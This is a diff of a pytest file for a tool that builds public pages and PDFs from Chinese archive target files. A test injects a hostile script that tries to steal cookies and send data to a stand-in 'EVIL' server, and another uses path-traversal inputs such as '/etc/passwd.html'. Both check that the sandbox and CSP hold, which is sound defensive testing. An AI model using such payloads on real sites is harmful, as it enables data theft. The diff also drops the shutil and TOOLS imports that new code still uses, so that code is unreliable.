@@ -8,7 +8,6 @@ import http.server
 import json
 import os
 import re
-import shutil
 import socket
 import threading
 import time
@@ -22,14 +21,14 @@ import pytest
 
 from perfgen.project.snapshot import Project
 from perfgen.serving.watching import Seen, Touched, changes
-from tests.helpers.browsing import TOOLS, launched, opened
+from tests.helpers.browsing import launched, opened
 from tests.helpers.people import git_as
 from tests.helpers.serving import CLERK, Served, samples, serving
 
 SOURCE = "data/2025/示例市档案馆.yaml"
 LAST_YEAR = "data/2024/示例市档案馆.yaml"
 GOAL = "做好档案接收、保管、数字化和开放利用"
-PROMISE = '"≥98%"'
+PROMISE = "≥98%"
 SECONDS = 20.0
 
 
@@ -49,7 +48,7 @@ def browser() -> Iterator[Any]:
 @pytest.fixture
 def root(served: Served) -> Iterator[Path]:
     """The project that is served; what a test changed is put back, and the server has noticed."""
-    folder = Path(str(served.process.args[4]))  # type: ignore[index]
+    folder = Path(served.process.args[4])  # type: ignore[index,arg-type]
     yield folder
     git_as(CLERK, folder, "checkout", "-q", "-f", "main")
     git_as(CLERK, folder, "clean", "-fdq")
@@ -259,9 +258,345 @@ def test_only_what_is_no_longer_as_it_was_read_counts_as_changed(tmp_path: Path)
     for path in (one, other):
         path.write_text("1")
     project = Project.on_disk(tmp_path)
-    for path in ("data/2025/a.yaml", "data/2025/b.yaml"):
-        project.read(path)
+    for source in ("data/2025/a.yaml", "data/2025/b.yaml"):
+        project.read(source)
     one.write_text("2")
     other.write_text("1")
-    touched = Touched(frozenset(), frozenset({"data/2025/a.yaml", "data/2025/b.yaml"}))
-    assert touched.changed(project) == {"data/2025/a.yaml"}
+    (tmp_path / "data/2025/c.yaml").write_text("1")
+    touched = Touched(frozenset(), frozenset({f"data/2025/{name}.yaml" for name in "abc"}))
+    assert touched.changed(project) == {"data/2025/a.yaml", "data/2025/c.yaml"}  # c may have been read elsewhere
+
+
+# the tabs, as the server makes them
+
+
+def test_the_public_page_is_made_for_a_look_with_what_it_needs(served: Served) -> None:
+    state = served.get(f"api/page?file={quote(SOURCE)}").json()
+    assert state["version"] == served.view(SOURCE)["version"]
+    assert state["said"] == ""
+    page = served.ask("GET", state["address"])
+    assert page.status == 200
+    assert page.headers["content-security-policy"].startswith("sandbox allow-scripts; default-src 'none'")
+    assert "示例市档案馆" in page.text
+    style = re.search(r'href="((?:\.\./)+assets/site\.[0-9a-f]+\.css)"', page.text)
+    assert style
+    base = state["address"].rsplit("/", 1)[0]
+    found = served.ask("GET", os.path.normpath(f"{base}/{style[1]}"))
+    assert (found.status, found.headers["content-type"].split(";")[0]) == (200, "text/css")
+    table = served.ask("GET", f"{base}/table.html")
+    assert (table.status, table.headers["content-security-policy"]) == (200, page.headers["content-security-policy"])
+
+
+def test_a_page_that_is_not_public_yet_says_what_is_missing_and_shows_it_all_the_same(
+    served: Served, root: Path
+) -> None:
+    settings = (root / "data/site.yaml").read_text("utf-8")
+    (root / "data/site.yaml").write_text(settings.split("# 批复后")[0], "utf-8")
+    state = until(lambda: one if "没有批复日期和公开日期" in (one := page_state(served))["said"] else None)
+    assert "还没有公开" in state["said"]
+    assert "日期先用今天" in state["said"]
+    assert served.ask("GET", state["address"]).status == 200
+
+
+def page_state(served: Served) -> Any:
+    return served.get(f"api/page?file={quote(SOURCE)}").json()
+
+
+def test_nothing_is_made_of_a_file_with_errors_and_it_says_why(served: Served, root: Path) -> None:
+    saved_by_renaming(root / SOURCE, "年度: 2025", "年度: 二〇二五")
+    until(lambda: served.view(SOURCE)["counts"]["errors"])
+    for kind in ("page", "papers"):
+        state = served.get(f"api/{kind}?file={quote(SOURCE)}").json()
+        assert "错误" in state["said"]
+        assert not state.get("address")
+        assert not state.get("files")
+    (root / SOURCE).write_text("a: [\n", "utf-8")
+    until(lambda: served.view(SOURCE)["broken"])
+    for kind in ("page", "papers", "changes"):
+        answer = served.get(f"api/{kind}?file={quote(SOURCE)}").json()
+        assert answer.get("said") or answer["html"]
+
+
+def test_other_public_pages_come_from_the_last_build_and_nothing_else_does(served: Served, root: Path) -> None:
+    public, preview = root / "build/public", page_state(served)["address"].split("/")[1]
+    (public / "2025").mkdir(parents=True)
+    (public / "index.html").write_text("<p>首页</p>", "utf-8")
+    (root / "build/official").mkdir()
+    (root / "build/official/a.html").write_text("内部", "utf-8")
+    (public / "out.html").symlink_to(root / "build/official/a.html")
+    try:
+        home = served.ask("GET", f"/{preview}/public/")
+        assert (home.status, home.text) == (200, "<p>首页</p>")
+        assert home.headers["content-security-policy"].startswith("sandbox allow-scripts;")
+        up = [f"{one}official/a.html" for one in ("../", "%2e%2e/", "..%5c", "2025/../../")]
+        for path in ("2025/none.html", "out.html", "/etc/passwd.html", "%00.html", "2025/a.pdf", *up):
+            answer = served.ask("GET", f"/{preview}/public/{path}")
+            assert answer.status in (403, 404), path
+            assert "内部" not in answer.text
+        for path in ("api/window?file=data/2025/a.yaml", "events", "static/view.js", ""):
+            assert served.ask("GET", f"/{preview}/{path}").status == 404
+        assert served.ask("POST", f"/{preview}/public/index.html").status == 403
+    finally:
+        shutil.rmtree(root / "build")
+
+
+def changes_of(served: Served, since: str) -> str:
+    found = served.get(f"api/changes?file={quote(SOURCE)}&since={since}").json()["html"]
+    assert isinstance(found, str)
+    return found
+
+
+def test_what_changed_is_told_since_the_base_and_against_last_year(served: Served, root: Path) -> None:
+    assert "没有改动" in changes_of(served, "base")
+    saved_by_renaming(root / SOURCE, PROMISE, "≥93.7%")
+    until(lambda: "≥93.7%" in form_of(served))
+    told = changes_of(served, "base")
+    assert "放宽 1 项（都没有理由）" in told
+    assert "由 ≥98% 改为 ≥93.7%" in told
+    assert 'data-reason="[&#34;' in told
+    assert "data-lead=" in told
+    assert "放宽" in changes_of(served, "year")
+
+
+def test_a_reason_that_is_written_answers_the_change(served: Served, root: Path) -> None:
+    saved_by_renaming(root / SOURCE, PROMISE, "≥93.7%")
+    until(lambda: "≥93.7%" in form_of(served))
+    path = re.search(r'data-reason="([^"]+)"', changes_of(served, "base"))
+    assert path
+    assert served.put(SOURCE, json.loads(path[1].replace("&#34;", '"')), "上级把口径改了").status == 200
+    told = changes_of(served, "base")
+    assert "上级把口径改了" in told
+    assert "没有理由" not in told
+
+
+def test_outside_git_it_is_said_that_there_is_nothing_to_compare_with(tmp_path: Path) -> None:
+    folder = samples(tmp_path / "项目")
+    with serving(folder) as alone:
+        assert "不是 git 仓库" in changes_of(alone, "base")
+        assert "放宽" in changes_of(alone, "year")
+
+
+def test_what_is_made_is_made_again_after_a_change_and_otherwise_kept(served: Served, root: Path) -> None:
+    first = served.ask("GET", page_state(served)["address"]).content
+    begin = time.monotonic()
+    assert served.ask("GET", page_state(served)["address"]).content == first
+    assert time.monotonic() - begin < 1
+    path = root / "templates/department-target/page.html"
+    saved_by_renaming(path, "金额单位为万元。", "金额单位为万元（改了模板）。")
+    until(lambda: "改了模板" in served.ask("GET", page_state(served)["address"]).text)
+
+
+@pytest.fixture(scope="module")
+def printing(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Served]:
+    """Another server: only tests that are marked so may make PDFs, and their processes."""
+    with serving(samples(tmp_path_factory.mktemp("printing") / "项目")) as found:
+        yield found
+
+
+@pytest.mark.pdf
+def test_the_pdf_is_shown_as_pictures_and_both_files_can_be_kept(printing: Served) -> None:
+    answer = printing.get(f"api/papers?file={quote(SOURCE)}")
+    assert answer.status == 200, answer.text
+    state = answer.json()
+    assert state["said"] == ""
+    assert len(state["pages"]) >= 2
+    assert [one["name"] for one in state["files"]] == ["2025-示例市档案馆.docx", "2025-示例市档案馆.pdf"]
+    picture = printing.get(f"paper/0.png?file={quote(SOURCE)}")
+    assert picture.content.startswith(b"\x89PNG")
+    assert int.from_bytes(picture.content[16:20]) == state["pages"][0][0]
+    for suffix, begin in (("pdf", b"%PDF-"), ("docx", b"PK")):
+        kept = printing.get(f"paper/{suffix}?file={quote(SOURCE)}")
+        assert kept.content.startswith(begin)
+        assert kept.headers["content-disposition"].startswith("attachment; filename*=UTF-8''2025-")
+    assert printing.get(f"paper/99.png?file={quote(SOURCE)}").status == 404
+    assert printing.get(f"paper/0.png?file={quote(LAST_YEAR)}").status == 404
+
+
+# in a browser
+
+
+@pytest.mark.browser
+def test_a_save_elsewhere_marks_what_changed_and_scrolls_to_it(served: Served, root: Path, browser: Any) -> None:
+    page = opened(browser, served.window(SOURCE), viewport={"width": 1280, "height": 500})
+    page.wait_for_selector(".official")
+    assert not page.locator(".changed").count()
+    saved_by_renaming(root / SOURCE, PROMISE, "≥93.7%")
+    page.wait_for_selector(".changed")
+    assert page.locator(".changed").all_inner_texts() == ["≥93.7%"]
+    assert page.locator(".changed").evaluate(
+        "e => { const b = e.getBoundingClientRect(); return b.top >= 0 && b.bottom <= innerHeight }"
+    )
+    assert page.said == []
+
+
+@pytest.mark.browser
+def test_the_form_is_grey_as_long_as_its_file_is_broken_or_gone(served: Served, root: Path, browser: Any) -> None:
+    page = opened(browser, served.window(SOURCE), viewport={"width": 1280, "height": 900})
+    page.wait_for_selector(".official")
+    text = (root / SOURCE).read_text("utf-8")
+    (root / SOURCE).write_text("a: [\n", "utf-8")
+    page.wait_for_selector(".sheet.stale")
+    page.wait_for_selector("#findings .broken:has-text('读不出来')")
+    assert GOAL in page.inner_text("#form")
+    page.click(f"#form .slot:has-text('{GOAL}')")
+    assert page.locator(".editing").count() == 0
+    (root / SOURCE).unlink()
+    page.wait_for_selector("#findings .broken:has-text('不在了')")
+    (root / SOURCE).write_text(text, "utf-8")
+    page.wait_for_selector(".sheet:not(.stale)")
+    page.wait_for_selector("#findings .broken", state="detached")
+
+
+@pytest.mark.browser
+def test_the_tabs_are_chosen_with_the_keyboard_and_lead_to_the_form(served: Served, root: Path, browser: Any) -> None:
+    saved_by_renaming(root / SOURCE, PROMISE, "≥93.7%")
+    until(lambda: "≥93.7%" in form_of(served))
+    page = opened(browser, served.window(SOURCE), viewport={"width": 1280, "height": 900})
+    page.wait_for_selector(".official")
+    page.focus("role=tab[name='检查']")
+    page.keyboard.press("ArrowRight")
+    page.wait_for_selector("role=tab[name='改了什么'][selected=true]")
+    page.wait_for_selector("#changes .change.open")
+    page.click("#changes .change.open .there")
+    until(lambda: page.evaluate("document.activeElement.closest('#form td')?.textContent.includes('≥93.7%')"))
+    page.fill("#changes .change.open textarea", "上级把口径改了")
+    page.click("#changes .change.open [data-save]")
+    page.wait_for_selector("#changes .change:not(.open) >> text=放宽")
+    assert "上级把口径改了" in (root / SOURCE).read_text("utf-8")
+    page.click("role=radio[name='和去年比']")
+    page.wait_for_selector("#changes .change >> nth=5")
+    assert page.said == []
+
+
+HOSTILE = """<script>
+const done = (name, found) => document.documentElement.setAttribute("data-" + name, found);
+const refused = (name, run) => { try { done(name, run() ?? "done"); } catch (error) { done(name, "refused"); } };
+const here = location.origin;
+const body = JSON.stringify({file: "data/2025/示例市档案馆.yaml", version: "", path: ["部门职能概述"], text: "偷改"});
+refused("parent", () => parent.document.title);
+refused("frame", () => parent.frames[0].location.href.includes("api") || "own");
+refused("storage", () => localStorage.length);
+refused("cookie", () => document.cookie);
+refused("top", () => { top.location.href = EVIL + "top"; });
+refused("opened", () => window.open(EVIL + "opened") ? "open" : "refused");
+const asked = [
+  fetch(here + "/api/put", {method: "POST", body}).then(() => "done", () => "refused"),
+  fetch(EVIL + "fetch").then(() => "done", () => "refused"),
+  fetch(location.href).then(() => "done", () => "refused"),
+  fetch("index.html").then(() => "done", () => "refused"),
+];
+Promise.all(asked).then((found) => done("asked", found.join(" ")));
+new Image().src = EVIL + "image";
+navigator.sendBeacon(EVIL + "beacon", body);
+try { new WebSocket(EVIL.replace("http", "ws") + "socket"); } catch {}
+try { new Worker("data:text/javascript,fetch('" + EVIL + "worker')"); } catch {}
+const add = (name, members) => document.head.append(Object.assign(document.createElement(name), members));
+add("script", {src: EVIL + "script"});
+add("link", {rel: "stylesheet", href: EVIL + "style"});
+add("link", {rel: "prefetch", href: EVIL + "prefetch"});
+add("iframe", {src: EVIL + "inner"});
+addEventListener("DOMContentLoaded", () => {
+  document.body.append(Object.assign(document.createElement("iframe"), {src: EVIL + "inner"}));
+  for (const action of [EVIL + "form", here + "/api/put"]) {
+    const form = Object.assign(document.createElement("form"), {method: "POST", action, target: "_top"});
+    document.body.append(form);
+    form.submit();
+  }
+  setTimeout(() => { done("end", "here"); }, 1500);
+  setTimeout(() => { location.href = EVIL + "self"; }, 2500);
+});
+</script>
+"""
+
+
+@contextmanager
+def elsewhere() -> Iterator[tuple[str, list[str]]]:
+    """A server of somebody else, and what it was asked for."""
+    asked: list[str] = []
+
+    class Handler(http.server.BaseHTTPRequestHandler):
+        def do_GET(self) -> None:
+            asked.append(self.path)
+            self.send_response(200)
+            self.send_header("Access-Control-Allow-Origin", "*")
+            self.end_headers()
+
+        do_POST = do_GET  # as the library calls it
+
+        def log_message(self, *_: object) -> None:
+            """Says nothing."""
+
+    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler) as server:
+        threading.Thread(target=server.serve_forever, daemon=True).start()
+        yield f"http://127.0.0.1:{server.server_port}/", asked
+        server.shutdown()
+
+
+@pytest.mark.browser
+def test_a_hostile_page_reaches_nothing(served: Served, root: Path, browser: Any) -> None:
+    frame_of_pages = root / "templates/shared/site-page.html"
+    text = frame_of_pages.read_text("utf-8")
+    policy = re.search(r"<meta http-equiv=\"Content-Security-Policy\".*?>\n", text, re.DOTALL)
+    assert policy
+    before = (root / SOURCE).read_bytes()
+    with elsewhere() as (evil, asked):
+        script = HOSTILE.replace("EVIL", json.dumps(evil))
+        frame_of_pages.write_text(text.replace(policy[0], "").replace("<title>", f"{script}<title>"), "utf-8")
+        page = opened(browser, served.window(SOURCE), viewport={"width": 1280, "height": 900})
+        page.wait_for_selector(".official")
+        until(lambda: "sendBeacon" in served.ask("GET", page_state(served)["address"]).text)
+        page.click("role=tab[name='网页']")
+        frame = page.wait_for_selector("#page iframe").content_frame()
+        frame.wait_for_selector("html[data-end=here][data-asked]", state="attached")
+        found = frame.evaluate("({...document.documentElement.dataset})")
+        page.wait_for_timeout(2000)
+        address = page.url
+        assert page.context.pages == [page]
+        page.close()
+    assert found["asked"] == "refused refused refused refused"
+    assert {found[name] for name in ("parent", "storage", "cookie", "top", "opened")} == {"refused"}
+    assert found["frame"] in ("own", "refused")
+    assert address == served.window(SOURCE)
+    assert asked == []
+    assert (root / SOURCE).read_bytes() == before
+
+
+@pytest.mark.pdf
+@pytest.mark.browser
+def test_the_pdf_in_the_window_is_made_again_after_a_save(printing: Served, browser: Any) -> None:
+    root = Path(printing.process.args[4])  # type: ignore[index,arg-type]
+    page = opened(browser, printing.window(SOURCE), viewport={"width": 1280, "height": 900})
+    page.wait_for_selector(".official")
+    page.click("role=tab[name='PDF']")
+    picture = page.locator("#papers img").first
+    picture.wait_for()
+    until(lambda: picture.evaluate("e => e.naturalWidth") > 1000)
+    assert picture.get_attribute("alt").startswith("PDF 第 1 页")
+    before = picture.get_attribute("src")
+    saved_by_renaming(root / SOURCE, GOAL, "另一个目标")
+    until(lambda: picture.get_attribute("src") != before)
+    page.wait_for_selector("#papers .state:has-text('做好')")
+    with page.expect_download() as download:
+        page.click("text=下载 Word")
+    assert download.value.suggested_filename == "2025-示例市档案馆.docx"
+    assert page.said == []
+
+
+@pytest.mark.browser
+@pytest.mark.pdf
+@pytest.mark.parametrize("scheme", ["light", "dark"])
+@pytest.mark.parametrize("width", [1280, 390])
+def test_no_tab_shuts_readers_out(printing: Served, browser: Any, width: int, scheme: str) -> None:
+    page = browser.new_page(bypass_csp=True, color_scheme=scheme, viewport={"width": width, "height": 800})
+    page.goto(printing.window(SOURCE))
+    page.wait_for_selector(".official")
+    for title, shown in (("改了什么", "#changes .change"), ("网页", "#page iframe"), ("PDF", "#papers img")):
+        page.click(f"role=tab[name='{title}']")
+        if title == "改了什么":
+            page.click("role=radio[name='和去年比']")
+        page.wait_for_selector(shown)
+        page.add_script_tag(content=(TOOLS / "axe-core/axe.min.js").read_text("utf-8"))
+        result = page.evaluate("axe.run('#side', {resultTypes: ['violations'], iframes: false})")
+        assert result["violations"] == []
+        assert page.evaluate("document.querySelector('#side').scrollWidth <= innerWidth")
+    page.close()
